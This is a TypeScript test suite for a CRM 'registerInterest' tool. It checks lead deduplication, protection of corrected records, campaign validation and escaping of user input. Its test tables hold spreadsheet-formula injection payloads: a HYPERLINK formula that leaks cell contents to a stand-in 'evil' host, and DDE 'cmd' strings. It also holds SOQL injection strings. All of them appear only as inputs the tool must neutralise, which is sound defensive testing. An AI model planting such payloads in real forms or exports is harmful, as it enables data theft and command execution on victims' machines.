import { expect, it } from 'vitest'
import { AppError, toPlainCell } from '#kit'
import type { SurfaceAnswer } from '../../../../src/test-client/surface-client.ts'
import { registerInterest } from '../../../../tools/register-interest.ts'
import { injections } from '../../../client/attacks/injections.ts'
import { admin, type RunningApp, type ToolSuite } from '../suite.ts'

const key = 'registration-key-of-this-test'
const ada = { firstName: 'Ada', lastName: 'Lovelace', email: 'ada@engine.example', channel: 'Engines' }
const open = "FROM Campaign WHERE Type = 'Influencer' AND IsActive = TRUE AND Status = 'In Progress'"

/** Campaigns that take registrations. */
async function running(app: RunningApp): Promise<{ campaignId: string; name: string }[]> {
  const rows = await app.org.query<{ Id: string; Name: string }>(`SELECT Id, Name ${open} ORDER BY EndDate`)
  return rows.map(({ Id, Name }) => ({ campaignId: Id, name: Name }))
}

export const suite: ToolSuite = {
  name: 'registerInterest',
  keys: [{ key, tools: ['registerInterest'] }],
  texts: async idOf => ({ registerInterest: { ...ada, campaignId: await idOf(`SELECT Id ${open}`) } }),
  define(app) {
    const membersOf = (email: string) =>
      app.org.query<{ Lead: { Name: string; Company: string } }>(
        `SELECT Lead.Name, Lead.Company FROM CampaignMember WHERE Lead.Email = '${email}'`,
      )

    it('makes one lead and one member of one person, however often and however at once she asks', async () => {
      const [first, second] = await running(app)
      const site = app.withKey(key)
      const call = (campaignId: string | undefined, more = {}) =>
        site.call('registerInterest', { ...ada, campaignId, ...more })
      const many = await Promise.all(Array.from({ length: 5 }, () => call(first?.campaignId)))
      const noted = (campaign = first) => ({ ok: true, output: { campaignName: campaign?.name } })
      expect(many).toEqual(Array(5).fill(noted()))
      expect(await call(first?.campaignId, { email: 'ADA@engine.example' })).toEqual(noted())
      expect(await call(second?.campaignId)).toEqual(noted(second))
      expect(await membersOf(ada.email)).toEqual(
        Array(2).fill(
          expect.objectContaining({ Lead: expect.objectContaining({ Name: 'Ada Lovelace', Company: 'Engines' }) }),
        ),
      )
      expect(await app.org.query("SELECT Id FROM Lead WHERE Email = 'ada@engine.example'")).toHaveLength(1)
    })

    it('finds a lead that came in another way', async () => {
      const [lead] = await app.org.query<{ Email: string }>('SELECT Email FROM Lead WHERE IsConverted = FALSE LIMIT 1')
      const [campaign] = await running(app)
      const email = lead?.Email ?? ''
      const input = { ...ada, email, campaignId: campaign?.campaignId }
      expect((await app.withKey(key).call('registerInterest', input)).ok).toBe(true)
      expect(await app.org.query(`SELECT Id FROM Lead WHERE Email = '${email}'`)).toHaveLength(1)
    })

    it('changes nothing of a lead that the people of the org have corrected, and answers as for somebody new', async () => {
      const [first, second] = await running(app)
      const site = app.withKey(key)
      const grace = { firstName: 'Grace', lastName: 'Hoper', email: 'grace@old.example', channel: 'Compilers' }
      const send = (campaignId: string | undefined, more = {}) =>
        site.call('registerInterest', { ...grace, campaignId, ...more })
      await send(first?.campaignId)
      const fields = 'Id, FirstName, LastName, Company, Email, Web_Email__c, LeadSource, LastModifiedDate'
      const leads = (where: string) => app.org.query<{ Id: string }>(`SELECT ${fields} FROM Lead WHERE ${where}`)
      const [made] = await leads("Email = 'grace@old.example'")
      const corrected = { LastName: 'Hopper', Email: 'grace@new.example', Company: 'Navy' }
      await app.rest(admin, `/sobjects/Lead/${made?.Id}`, { method: 'PATCH', body: JSON.stringify(corrected) })
      const known = await leads(`Id = '${made?.Id}'`)
      expect(known).toMatchObject([{ ...corrected, Web_Email__c: 'grace@old.example' }])

      const attacks = [{}, { firstName: 'Mallory', lastName: 'Smith', channel: 'Evil' }, { email: 'GRACE@old.example' }]
      for (const attack of attacks) {
        expect(await send(second?.campaignId, attack)).toEqual({ ok: true, output: { campaignName: second?.name } })
      }
      const stranger = await send(second?.campaignId, { email: 'nobody@before.example' })
      expect(stranger).toEqual({ ok: true, output: { campaignName: second?.name } })
      expect(await leads(`Id = '${made?.Id}'`)).toEqual(known)
      expect(await leads("Web_Email__c = 'grace@old.example' OR Email LIKE 'grace@%'")).toHaveLength(1)
      expect(await membersOf('grace@new.example')).toHaveLength(2)
    })

    it('makes the contact a member whom a lead of that address became', async () => {
      const campaignId = '701000000000001AAA'
      const created: unknown[] = []
      const org = {
        async queryOne({ text }: { readonly text: string }) {
          if (text.includes('FROM Campaign ')) return { Name: 'Robots' }
          return text.includes('Web_Email__c') ? { Id: '00Q1', ConvertedContactId: '0031' } : undefined
        },
        async create(object: string, fields: object) {
          if (object === 'Lead') throw new AppError('conflict', 'duplicate value found')
          created.push({ object, ...fields })
          return '00v1'
        },
      }
      const answer = await registerInterest.run({ ...ada, campaignId }, { org } as never)
      expect(answer).toEqual({ campaignName: 'Robots' })
      expect(created).toEqual([
        { object: 'CampaignMember', CampaignId: campaignId, ContactId: '0031', Status: 'Responded' },
      ])
    })

    it.each<[string, string, number]>([
      ['=HYPERLINK("evil.example?"&A1,"x")', '\'=HYPERLINK("evil.example?"&A1,"x")', 1],
      ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0", 2],
      ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0", 3],
      ['-A1', "'-A1", 4],
      ['@SUM(A1)', "'@SUM(A1)", 5],
      ['＝A1', "'＝A1", 6],
      ['+49 30 1234', '+49 30 1234', 7],
    ])('writes what begins a formula so that a later export of the org begins none: %j', async (text, written, at) => {
      const [campaign] = await running(app)
      const texts = { firstName: text, lastName: text, channel: text, email: `cell${at}@x.example` }
      const answer = await app.withKey(key).call('registerInterest', { ...texts, campaignId: campaign?.campaignId })
      expect(answer.ok).toBe(true)
      expect(
        await app.org.query(`SELECT FirstName, LastName, Company FROM Lead WHERE Email = '${texts.email}'`),
      ).toMatchObject([{ FirstName: written, LastName: written, Company: written }])
    })

    it('refuses a text that has no room for what makes it harmless, whoever is known', async () => {
      const [campaign] = await running(app)
      for (const email of [ada.email, 'unknown@x.example']) {
        const input = { ...ada, email, firstName: '='.padEnd(40, 'x'), campaignId: campaign?.campaignId }
        expect(await app.withKey(key).call('registerInterest', input)).toMatchObject({
          failure: { code: 'invalid_input', message: 'firstName: must be shorter than 40 characters' },
        })
      }
    })

    it('refuses campaigns that are not open, and whoever advertises', async () => {
      const [webinar] = await app.org.query<{ Id: string }>(
        "SELECT Id FROM Campaign WHERE Name = 'Automation Webinar Series'",
      )
      const site = app.withKey(key)
      expect(await site.call('registerInterest', { ...ada, campaignId: webinar?.Id })).toMatchObject({
        failure: { code: 'not_found' },
      })
      const [campaign] = await running(app)
      const spam = { ...ada, campaignId: campaign?.campaignId, firstName: 'Buy at https://spam.example' }
      expect(await site.call('registerInterest', spam)).toMatchObject({ failure: { code: 'invalid_input' } })
    })

    it('takes every text as a text: no query widens, and every name arrives as it was, unless it is a formula', async () => {
      const [campaign] = await running(app)
      const site = app.withKey(key)
      const texts = injections.filter(text => text.length <= 40 && !/[\t]|:\/\//.test(text))
      const send = (text: string, at: number) =>
        site.call('registerInterest', {
          campaignId: campaign?.campaignId,
          firstName: text,
          lastName: text,
          channel: text,
          email: `i${at}@x.example`,
        })
      const answers: SurfaceAnswer[] = []
      for (const [at, text] of texts.entries()) answers.push(await send(text, at))
      expect(answers.filter(({ ok }) => !ok)).toEqual([])
      const leads = await app.org.query<{ LastName: string }>(
        "SELECT LastName FROM Lead WHERE Email LIKE 'i%@x.example'",
      )
      expect(leads.map(({ LastName }) => LastName).toSorted()).toEqual(texts.map(toPlainCell).toSorted())
      expect(texts.filter(text => toPlainCell(text) !== text)).toEqual(['-- comment', '=HYPERLINK("x")'])
    })

    it.each(["x' OR Email != '", "a'OR'1'='1@x.example", 'a@x.example\n', '%@x.example'])(
      'finds nobody by %j',
      async email => {
        const [campaign] = await running(app)
        const count = async () => (await app.org.query('SELECT Id FROM CampaignMember')).length
        const before = await count()
        const answer = await app.withKey(key).call('registerInterest', {
          ...ada,
          email,
          campaignId: campaign?.campaignId,
        })
        if (!answer.ok) expect(answer.failure.code).toBe('invalid_input')
        expect(await count()).toBe(before + (answer.ok ? 1 : 0))
      },
    )

    it.each(["701' OR Id != '", '701000000000001AAA', "701AH0000000003YAA' OR Name != '"])(
      'finds no campaign by %j',
      async campaignId => {
        const answer = await app.withKey(key).call('registerInterest', { ...ada, campaignId })
        expect(['invalid_input', 'not_found']).toContain(answer.ok ? 'taken' : answer.failure.code)
      },
    )
  },
}
